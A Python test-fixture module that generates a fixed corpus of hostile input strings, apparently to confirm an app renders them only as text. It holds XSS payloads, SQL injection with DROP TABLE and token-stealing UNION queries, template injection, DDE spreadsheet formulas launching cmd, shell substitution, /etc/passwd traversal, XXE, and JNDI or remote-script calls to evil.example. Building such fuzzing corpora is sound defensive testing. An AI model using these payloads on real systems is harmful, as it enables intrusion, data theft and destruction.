"""What somebody might write who means harm, or whose keyboard does: at least 500 strings, the same ones each time.

None of them is health data, and all of them are text. Whatever shows one must show text (T12, T13).
"""

# A list of strings is read as a list; and the characters that hide are what it is about.
# ruff: noqa: E501

import random
from collections.abc import Iterator

DANGER = "alert(document.domain)"

TAGS = (
    "script", "img", "svg", "iframe", "video", "audio", "body", "details", "input", "select", "textarea", "marquee",
    "math", "object", "embed", "form", "button", "a", "style", "link", "meta", "base", "template", "noscript", "xmp",
    "plaintext", "title", "x-own", "image", "keygen",
)  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus autofocus tabindex=1", "ontoggle open", "onbegin", "onanimationstart")
BREAKOUTS = (
    '"', "'", "`", ">", '">', "'>", "-->", "</p>", "</textarea>", "</title>", "</style>", "</script>", "</svg>", "]]>",
    "*/", "\\", '\\"', "</noscript>", "</template>", "<!--",
)  # fmt: skip
CORES = (
    f"<script>{DANGER}</script>", f"<img src=x onerror={DANGER}>", f"<svg/onload={DANGER}>",
    f"<iframe srcdoc='<script>{DANGER}</script>'>", f"<a href=javascript:{DANGER}>tryk</a>",
)  # fmt: skip
URLS = (
    f"javascript:{DANGER}", f"JaVaScRiPt:{DANGER}", f" javascript:{DANGER}", f"java\tscript:{DANGER}",
    f"java\nscript:{DANGER}", f"\x01javascript:{DANGER}", f"javascript&colon;{DANGER}", f"javascript%3A{DANGER}",
    f"&#106;avascript:{DANGER}", f"data:text/html,<script>{DANGER}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"vbscript:{DANGER}", "//evil.example/x.js",
    "\\\\evil.example\\x", "https://evil.example/\"onmouseover=\"alert(1)", "https://user:pass@evil.example/",
    "blob:https://evil.example/1", "filesystem:https://evil.example/1", "file:///etc/passwd", "view-source:javascript:1",
    "tel:112;ext=<script>", "sms:1234?body=<b>", "mailto:x@example.org?bcc=y", "intent://evil#Intent;end", "about:blank",
)  # fmt: skip
ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=1&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT/XSS SRC=x></SCRIPT>", "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>", "<img/src/onerror=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x>#x'/>", "<math><mtext><style><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "&amp;lt;b&amp;gt;",
    "&nbsp;&zwnj;&rlm;", "&NewLine;&Tab;", "&;&#;&#x;&#xffffffff;", "\ufeff<script>alert(1)</script>",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{%7*7%}",
    "[[${7*7}]]", "@(7*7)", "${{7*7}}", "*{7*7}", "~{x}", "{{#with}}", "{{{x}}}", "<% alert(1) %>", "<#assign x=1>",
    "#set($x=1)", "{php}echo 1;{/php}", "{{self.__init__.__globals__}}", "{0.__class__}", "%(password)s", "%s%n%x",
    "{name}", "$name", ":name", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty",
)  # fmt: skip
DATABASES = (
    "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE item;--", "\"; DROP TABLE item;--", "') OR ('1'='1", "1; SELECT pg_sleep(9)",
    "' UNION SELECT * FROM session--", "admin'--", "' AND 1=0 UNION ALL SELECT NULL--", "\\'; DROP TABLE plan;--", "%27",
    "' || (SELECT token FROM session) || '", "1' ORDER BY 100--", "$$;DROP TABLE item;$$", "E'\\x41'", "x'; ATTACH DATABASE 'a",
    "%", "_", "\\%", "[a-z]", "{\"$gt\": \"\"}", "'; return 1; var x='", "*)(uid=*))(|(uid=*", "' or name()='x", "count(/*)",
)  # fmt: skip
SPREADSHEETS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"tryk\")", "\t=1+1",
    "\r=1+1", " =1+1", "=IMPORTXML(\"https://evil.example\",\"//a\")", "=WEBSERVICE(\"https://evil.example\")", "\"=1+1\"",
    "a,b;c\td", "a\"b\"\"c", "-2+3+cmd|' /C calc'!A0", "＝1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", ";;;", "\n=1+1", "'=1+1",
)  # fmt: skip
OTHER_MACHINES = (
    "$(id)", "`id`", "; id", "| id", "&& id", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "C:\\con",
    "x\r\nSet-Cookie: stafet=1", "x\r\n\r\n<script>alert(1)</script>", "x%0d%0aLocation:%20//evil.example",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", "<x xmlns:xi='http://www.w3.org/2001/XInclude'/>",
    "${jndi:ldap://evil.example/a}", "BEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT", "END:VCALENDAR", "\\n\\,\\;", "x;y:z",
    "%PDF-1.7", "#import \"/etc/passwd\"", "$ x^2 $", "#eval(\"1\")", "\\input{/etc/passwd}", "\\write18{id}", "-----BEGIN-----",
    "[tryk](javascript:alert(1))", "![x](https://evil.example/x.png)", "<https://evil.example>", "**fed** _skrå_ `kode`",
)  # fmt: skip
NUMBERS = (
    "null", "undefined", "NaN", "Infinity", "-0", "1e999", "true", "false", "[]", "{}", "[object Object]", "0x0", "None",
    "nil", "\"\"", "0", "00", "1_000", "١٢٣", "½",
)  # fmt: skip
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
RIGHT_TO_LEFT = (
    "שלום עולם", "مرحبا بالعالم", "abc שלום def", "<b>مرحبا</b>", "ﷺﷺﷺ", "Ring 112 \u202egnir\u202c", "txt.\u202egpj.exe",
)  # fmt: skip
INVISIBLE = (
    "\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\u180e", "\u034f", "\u115f", "\u3164", "\ufe0f", "\U000e0041",
    "\u2028", "\u2029", "\u00a0", "\u3000", "\ufff9", "\ufffc", "\ufffd", "\ufffe", "\U0010ffff",
)  # fmt: skip
STRANGE = (
    "Z̸̡̢̛̗͉͔̪a̷̧̛͓l̶̨̛g̵̨̛o", "e\u0301é", "a\u030aå", "ﬃ", "Å Å", "ıİ", "ẞß", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇩🇰", "❤️", "𝓢𝓽𝓪𝓯𝓮𝓽",
    "ЅtаfеT", "W" * 190, "🙂" * 190, "a\n" * 60, "\t" * 20 + "x", " " * 150 + "x", "☃" * 100, "Ω≈ç√∫˜µ≤≥÷",
)  # fmt: skip


def strings(least: int = 560) -> tuple[str, ...]:
    """All of them. What the lists do not fill is put together out of their parts, with a luck that never changes."""
    made = dict.fromkeys(_listed())
    luck = random.Random(20_261_126)
    parts = [*BREAKOUTS, *CORES, *URLS, *ENCODED, *TEMPLATES, *INVISIBLE, *BIDI]
    while len(made) < least:
        made["".join(luck.choices(parts, k=luck.randint(2, 4)))[:199]] = None
    return tuple(made)


def _listed() -> Iterator[str]:
    for tag in TAGS:
        yield f"<{tag}>{DANGER}</{tag}>"
        yield f"<{tag} src=x href=javascript:{DANGER} {EVENTS[len(tag) % len(EVENTS)].replace(' ', f'={DANGER} ', 1)}>"
        yield f"<{tag}/onmouseover='{DANGER}'/style=position:fixed;inset:0>"
    for event in EVENTS:
        yield f"<img src=x {event}={DANGER}>"
    yield from (f"{out}{core}" for number, out in enumerate(BREAKOUTS) for core in (CORES[number % 5], CORES[0]))
    for many in (URLS, ENCODED, TEMPLATES, DATABASES, SPREADSHEETS, OTHER_MACHINES, NUMBERS, RIGHT_TO_LEFT, STRANGE):
        yield from many
    yield from (f"Ma{character}ds" for character in (*BIDI, *INVISIBLE))
    yield from (f"<b{chr(code)}>x" for code in (*range(32), *range(0x7F, 0xA0)))


def packed(longest: int) -> tuple[str, ...]:
    """The same strings, as many in one text as have room in it, with a sign between them that none of them holds."""
    texts: list[str] = []
    for one in strings():
        if texts and len(texts[-1]) + len(one) + 3 <= longest:
            texts[-1] += f" ¶ {one}"
        elif len(one) <= longest:
            texts.append(one)
    return tuple(texts)
